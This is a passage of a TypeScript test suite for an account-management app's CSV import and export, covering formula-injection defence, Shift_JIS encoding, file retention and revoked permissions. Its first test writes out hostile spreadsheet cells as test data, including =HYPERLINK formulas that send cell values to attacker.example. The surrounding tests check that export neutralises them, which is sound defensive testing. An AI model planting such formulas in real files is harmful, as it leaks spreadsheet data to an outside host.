      `12400000003,zen@example.jp,=山田 花子,"＝HYPERLINK(""https://attacker.example/""&D2,""詳細"")",＠SUM(A1:A9),＋81 東京都,-0312345678`,
    ];
    await upload(admin, 'formulas.csv', Buffer.from(csv([CSV_HEADER, ...hostile])));
    expect((await runAndWait(admin, false)).job.run).toMatchObject({ state: 'done', rejected: 0, inserted: 3 });
    const stored = await web.app.db('accounts').whereIn('jsa_id', ['12400000001', '12400000002', '12400000003']).orderBy('jsa_id').select('email', 'contact_name', 'company', 'department', 'address', 'phone');
    expect(stored).toEqual([
      { email: '=cmd@example.jp', contact_name: '-', company: '=HYPERLINK("https://attacker.example/"&D2&G2,"詳細")', department: '@SUM(A1:A9)', address: '+81 3 1234 5678', phone: '+81 3 1234 5678' },
      // The tab in front of 総務部 is trimmed by the forms' rules, as typed on a screen.
      { email: 'apos@example.jp', contact_name: "'=1+1", company: "'80s 商会", department: '総務部', address: '東京都', phone: '-03-1234' },
      { email: 'zen@example.jp', contact_name: '=山田 花子', company: '=HYPERLINK("https://attacker.example/"&D2,"詳細")', department: '@SUM(A1:A9)', address: '+81 東京都', phone: '-0312345678' },
    ]);

    // The rejected rows give back the values as they were in the file, untrimmed: a formula after
    // spaces or in full-width forms is guarded there too.
    await upload(admin, 'formulas-rejected.csv', Buffer.from(csv([CSV_HEADER, `1240,"\u3000＝HYPERLINK(""https://attacker.example/""&D2)",＋1, =1+1,－1,＠A1,"	=1"`])));
    expect((await runAndWait(admin, false)).job.run).toMatchObject({ state: 'done', rejected: 1 });
    const rejects = await download(admin, (await ok<{ ticket: string }>(admin, 'accounts.import.rejects', {})).ticket);
    const rejectedRow = rejects.bytes.toString('utf8').trimEnd().split('\r\n')[1]!;
    expect(rejectedRow.slice(1, -1).split('","').slice(2)).toEqual(['1240', `'\u3000＝HYPERLINK(""https://attacker.example/""&D2)`, "'＋1", "' =1+1", "'－1", "'＠A1", "'	=1"]);

    for (const encoding of ['utf-8', 'shift_jis'] as const) {
      const begun = await ok<{ ticket: string; fileName: string; accounts: number }>(supervisor, 'accounts.export.begin', { encoding, personalDataConfirmed: true });
      const got = await download(supervisor, begun.ticket);
      const text = encoding === 'utf-8' ? got.bytes.toString('utf8') : iconv.decode(got.bytes, 'cp932');
      const lines = text.replace(/^\uFEFF/, '').trimEnd().split('\r\n');
      expect(lines).toContain(`"12400000001","'=cmd@example.jp","'-","'=HYPERLINK(""https://attacker.example/""&D2&G2,""詳細"")","'@SUM(A1:A9)","'+81 3 1234 5678","'+81 3 1234 5678"`);
      expect(lines).toContain(`"12400000002","apos@example.jp","''=1+1","'80s 商会","総務部","東京都","'-03-1234"`);
      expect(lines).toContain(`"12400000003","zen@example.jp","'=山田 花子","'=HYPERLINK(""https://attacker.example/""&D2,""詳細"")","'@SUM(A1:A9)","'+81 東京都","'-0312345678"`);
      // No cell of the whole file begins with what a spreadsheet runs.
      for (const line of lines.slice(1)) for (const cellText of line.slice(1, -1).split('","')) expect(cellText).not.toMatch(/^(?:[\t\r]|\s*[=+\-@＝＋－＠])/);

      const before = await web.app.db('accounts').select('jsa_id', 'email', 'contact_name', 'company', 'department', 'address', 'phone', 'version').orderBy('jsa_id');
      await upload(admin, begun.fileName, got.bytes);
      expect((await runAndWait(admin, false)).job.run).toMatchObject({ state: 'done', inserted: 0, updated: 0, rejected: 0, unchanged: begun.accounts });
      expect(await web.app.db('accounts').select('jsa_id', 'email', 'contact_name', 'company', 'department', 'address', 'phone', 'version').orderBy('jsa_id')).toEqual(before);
    }
  });

  it('round-trips 髙 and 﨑 through Shift_JIS, and names the characters Shift_JIS cannot write instead of writing ?', async () => {
    const special = [
      '12100000001,taka@example.jp,髙橋 﨑子,株式会社髙島屋,品質保証部,神奈川県川﨑市,044-123-4567',
      '12100000002,nec@example.jp,德永 惠,①株式会社,総務部,"東京都港区芝5-33-1, 森永プラザ",+81 3 1234 5678',
    ];
    await upload(admin, 'sjis-special.csv', iconv.encode(csv([CSV_HEADER, ...special]), 'cp932'));
    expect((await runAndWait(admin, false)).job.run).toMatchObject({ state: 'done', rejected: 0 });
    const begun = await ok<{ ticket: string; fileName: string; accounts: number }>(supervisor, 'accounts.export.begin', { encoding: 'shift_jis', personalDataConfirmed: true });
    const got = await download(supervisor, begun.ticket);
    const text = iconv.decode(got.bytes, 'cp932');
    expect(text).toContain('"12100000001","taka@example.jp","髙橋 﨑子","株式会社髙島屋","品質保証部","神奈川県川﨑市","044-123-4567"');
    expect(text).not.toContain('?');
    const before = await web.app.db('accounts').select('jsa_id', 'contact_name', 'company', 'address', 'phone', 'version').orderBy('jsa_id');
    await upload(admin, begun.fileName, got.bytes);
    const { job } = await runAndWait(admin, false);
    expect(job.run).toMatchObject({ state: 'done', inserted: 0, updated: 0, rejected: 0, unchanged: begun.accounts });
    expect(await web.app.db('accounts').select('jsa_id', 'contact_name', 'company', 'address', 'phone', 'version').orderBy('jsa_id')).toEqual(before);

    // 𠮷 (U+20BB7) and 鷗 (U+9DD7) are not in Shift_JIS (CP932): named, and nothing is written.
    await upload(admin, 'jis2004.csv', Buffer.from(csv([CSV_HEADER, '12100000003,yoshi@example.jp,𠮷田 鷗外,会社,部,住所,03'])));
    expect((await runAndWait(admin, false)).job.run).toMatchObject({ state: 'done', inserted: 1 });
    const refused = await ok<{ unwritable: { accounts: number; examples: unknown[] } }>(supervisor, 'accounts.export.begin', { encoding: 'shift_jis', personalDataConfirmed: true });
    expect(refused).toEqual({ unwritable: { accounts: 1, examples: [{ maskedJsaId: '•••••••0003', column: 'contact_name', characters: ['𠮷', '鷗'] }] } });
    // UTF-8 writes them as they are.
    const utf8 = await ok<{ ticket: string }>(supervisor, 'accounts.export.begin', { encoding: 'utf-8', personalDataConfirmed: true });
    expect((await download(supervisor, utf8.ticket)).bytes.toString('utf8')).toContain('"𠮷田 鷗外"');
  });
});

describe('the Electron app’s file dialog', () => {
  it('copies the file the main process’s dialog chose into the slot, says nothing on cancel, and is not offered over HTTP', async () => {
    const electronDir = await makeTempDir();
    const chosen = join(electronDir.path, '取引先（Excel）.csv');
    writeFileSync(chosen, iconv.encode(csv([CSV_HEADER, '12300000001,dlg@example.jp,髙橋 花子,会社,部,住所,03']), 'cp932'));
    let answer: { path: string; name: string } | null = { path: chosen, name: '取引先（Excel）.csv' };
    const app = await startTestApp({ dataDir: join(electronDir.path, 'data'), startMailWorker: false, importFilePicker: { chooseCsv: async () => answer } });
    try {
      const admin = await readyAdmin(app);
      const viaIpc = async () => {
        const result = await app.dispatch('accounts.import.chooseFile', {}, { session: admin.session, transport: 'ipc', actor: `staff:${admin.session.principal.staff!.staffId}` });
        if (!result.ok) throw new Error(JSON.stringify(result.error));
        return result.value as { chosen: boolean; job: ImportJobView };
      };
      const picked = await viaIpc();
      expect(picked.chosen).toBe(true);
      expect(picked.job.file).toMatchObject({ name: '取引先（Excel）.csv', encoding: 'shift_jis', missingColumns: [] });
      expect(picked.job.file!.rows[0]![2]).toBe('髙橋 花子');
      // The copy, not the original, is what the run reads: the original may change or go.
      writeFileSync(chosen, 'changed');
      await admin.ok('accounts.import.run', { dryRun: true, locale: 'ja' });
      let job = await admin.ok('accounts.import.status', {});
      while (job.run?.state === 'running') job = await admin.ok('accounts.import.status', {});
      expect(job.run).toMatchObject({ state: 'done', rows: 1, inserted: 1 });
      answer = null;
      expect(await viaIpc()).toMatchObject({ chosen: false, job: { file: { name: '取引先（Excel）.csv' } } });
      expect(await admin.fails('accounts.import.chooseFile', {})).toBe('UNAVAILABLE');
    } finally {
      await app.close();
      await electronDir.remove();
    }
  });
});

describe('a run stopped by the app closing', () => {
  it('ends as failed with its whole batches kept, audited, and the lock released', async () => {
    const slotDir = await makeTempDir();
    const lines = [CSV_HEADER, ...Array.from({ length: 5000 }, (_, i) => accountCsvRow(i + 1, { rows: 5000, prefix: '5' }))];
    // The first 3,000 rows come at once, the rest never: the app closes meanwhile.
    const half = Buffer.from(`${lines.slice(0, 3001).join('\r\n')}\r\n`);
    const jobs = createImportJobs({
      db: web.app.db,
      clock: web.app.clock,
      logger: { info: () => undefined, error: () => undefined },
      dataDir: slotDir.path,
      staffName: async () => ({ by: '管理者', byUser: 'admin' }),
      starterGone: async () => null,
      openFile: () => {
        const out = new PassThrough();
        out.write(half);
        return out;
      },
    });
    try {
      await jobs.receive(Readable.from([Buffer.from(csv(lines))]), 'stopped.csv', 'staff:x');
      await jobs.start(false, 'ja', 'staff:x');
      while ((jobs.status().run?.inserted ?? 0) < 2000) await new Promise((resolve) => setTimeout(resolve, 10));
      await jobs.stop();
      expect(jobs.status().run).toMatchObject({ state: 'failed', inserted: 2000 });
      expect(await web.app.db('accounts').where('jsa_id', 'like', '5%').count<{ n: number }[]>({ n: '*' }).first()).toEqual({ n: 2000 });
      const audit = await web.app.db('audit_log').where({ action: 'accounts.import-failed' }).orderBy('seq', 'desc').first();
      expect(JSON.parse((audit as { detail_json: string }).detail_json)).toMatchObject({ file: 'stopped.csv', inserted: 2000 });
      expect(importLockHolder(slotDir.path)).toBeUndefined();
    } finally {
      await slotDir.remove();
    }
  });
});

describe('the import slot’s retention', () => {
  it('forgets the chosen file and its rejected rows a day after they were last used, not before', async () => {
    const slotDir = await makeTempDir();
    const clock = manualClock(Date.parse('2026-12-07T00:00:00.000Z'));
    const jobs = createImportJobs({ db: web.app.db, clock, logger: { info: () => undefined, error: () => undefined }, dataDir: slotDir.path, staffName: async () => ({ by: '管理者', byUser: 'admin' }), starterGone: async () => null });
    try {
      await jobs.clearLeftovers();
      await jobs.receive(Readable.from([Buffer.from(csv([CSV_HEADER, '1234,bad@example,名前,会社,部,住所,03']))]), 'old.csv', 'staff:x');
      await jobs.start(true, 'ja', 'staff:x');
      while (jobs.status().run?.state === 'running') await new Promise((resolve) => setTimeout(resolve, 10));
      expect(jobs.status().run).toMatchObject({ state: 'done', rejected: 1 });
      expect(readdirSync(join(slotDir.path, 'imports'))).toHaveLength(2);
      clock.advance(24 * 3600_000 - 1);
      expect(await jobs.expire()).toBe(false);
      clock.advance(1);
      expect(await jobs.expire()).toBe(true);
      expect(jobs.status()).toMatchObject({ file: null, run: null });
      expect(readdirSync(join(slotDir.path, 'imports'))).toEqual([]);
    } finally {
      await slotDir.remove();
    }
  });
});

describe('a ticket whose user changed after it was issued', () => {
  it('is refused to a user disabled or demoted in its minute: the staff row is read again, not the role the login cached', async () => {
    const leaver = async (username: string) => {
      const { user, oneTimePassword } = await ok<{ user: { staffId: string }; oneTimePassword: string }>(admin, 'staff.users.create', { username, displayName: `${username} 責任者`, role: 'supervisor' });
      const v = await web.visitor();
      await ok(v, 'staff.login', { username, password: oneTimePassword });
      await ok(v, 'staff.changePassword', { current: oneTimePassword, next: STAFF_PASSWORD, confirm: STAFF_PASSWORD });
      const { ticket } = await ok<{ ticket: string }>(v, 'accounts.export.begin', { encoding: 'utf-8', personalDataConfirmed: true });
      return { v, staffId: user.staffId, ticket };
    };
    const disabled = await leaver('takeda');
    await ok(admin, 'staff.users.update', { staffId: disabled.staffId, disabled: true });
    const afterDisable = await download(disabled.v, disabled.ticket);
    expect(afterDisable.status).toBe(401);
    expect(JSON.parse(afterDisable.bytes.toString('utf8'))).toMatchObject({ ok: false, error: { code: 'SESSION_EXPIRED' } });

    const demoted = await leaver('uchida');
    await ok(admin, 'staff.users.update', { staffId: demoted.staffId, role: 'agent' });
    const afterDemotion = await download(demoted.v, demoted.ticket);
    expect(afterDemotion.status).toBe(401);
    expect(JSON.parse(afterDemotion.bytes.toString('utf8'))).toMatchObject({ ok: false, error: { code: 'SESSION_EXPIRED' } });
    // The demoted user's login ended there, as at their next call.
    expect((await refusal(demoted.v, 'staff.me', {})).code).toBe('UNAUTHENTICATED');
  });
});

describe('a run whose admin may no longer import', () => {
  it('stops before its next batch when its admin is disabled or their logins are ended, keeps what it wrote, records why, and the screen says so', async () => {
    const rows = 12_000;
    // Each run's own JSA-IDs: its first batches add accounts, which the test waits for.
    const stopWhile = async (name: string, prefix: string, act: (staffId: string) => Promise<unknown>) => {
      const bytes = Buffer.from(csv([CSV_HEADER, ...Array.from({ length: rows }, (_, i) => accountCsvRow(i + 1, { rows, prefix }))]), 'utf8');
      const { user, oneTimePassword } = await ok<{ user: { staffId: string }; oneTimePassword: string }>(admin, 'staff.users.create', { username: name, displayName: '取込 担当', role: 'admin' });
      const starter = await web.visitor();
      await ok(starter, 'staff.login', { username: name, password: oneTimePassword });
      await ok(starter, 'staff.changePassword', { current: oneTimePassword, next: STAFF_PASSWORD, confirm: STAFF_PASSWORD });
      await upload(starter, `${name}.csv`, bytes);
      hold.after = Math.floor(bytes.length * 0.6);
      hold.passed = new Promise((resolve) => (hold.release = resolve));
      await ok(starter, 'accounts.import.run', { dryRun: false, locale: 'ja' });
      let partway = await ok<ImportJobView>(admin, 'accounts.import.status', {});
      while (partway.run!.inserted === 0) partway = await ok<ImportJobView>(admin, 'accounts.import.status', {});
      await act(user.staffId);
      const importedBefore = await web.app.db('audit_log').where({ action: 'accounts.imported' }).count({ n: '*' }).first();
      hold.release();
      hold.after = Infinity;
      hold.passed = Promise.resolve();
      const { job } = await finished(admin);
      expect(await web.app.db('audit_log').where({ action: 'accounts.imported' }).count({ n: '*' }).first()).toEqual(importedBefore);
      const failed = (await web.app.db('audit_log').where({ action: 'accounts.import-failed' }).orderBy('seq', 'desc').first()) as { actor: string; subject: string; detail_json: string };
      return { job, failed, staffId: user.staffId };
    };

    const disabled = await stopWhile('import.disabled', '41', (staffId) => ok(admin, 'staff.users.update', { staffId, disabled: true }));
    expect(disabled.job.run).toMatchObject({ state: 'failed', endedBecause: 'starter-disabled', by: '取込 担当' });
    // The batches written before stay; the rest of the file was not written.
    expect(disabled.job.run!.inserted).toBeGreaterThan(0);
    expect(disabled.job.run!.inserted).toBeLessThan(rows);
    expect(await web.app.db('accounts').where('jsa_id', 'like', '41%').count({ n: '*' }).first()).toEqual({ n: disabled.job.run!.inserted });
    // The counter stopped it; the disabled admin is what it is about, not who did it.
    expect({ actor: disabled.failed.actor, subject: disabled.failed.subject, detail: JSON.parse(disabled.failed.detail_json) as unknown }).toEqual({
      actor: 'system',
      subject: `staff:${disabled.staffId}`,
      detail: { file: 'import.disabled.csv', rows: disabled.job.run!.rows, inserted: disabled.job.run!.inserted, updated: disabled.job.run!.updated, reason: 'starter-disabled' },
    });

    const ended = await stopWhile('import.ended', '42', (staffId) => ok(admin, 'staff.users.endSessions', { staffId }));
    expect(ended.job.run).toMatchObject({ state: 'failed', endedBecause: 'starter-logged-out' });
    expect(JSON.parse(ended.failed.detail_json)).toMatchObject({ reason: 'starter-logged-out' });

    // `npm run staff:reset-password` in another process: the sessions stay in this one, but they
    // are logins from before a forced change (as the staff calls treat them), so none is left.
    const reset = await stopWhile('import.reset', '43', (staffId) => web.app.db('staff_users').where({ id: staffId }).update({ must_change_password: 1 }));
    expect(reset.job.run).toMatchObject({ state: 'failed', endedBecause: 'starter-logged-out' });
  }, 120_000);
});
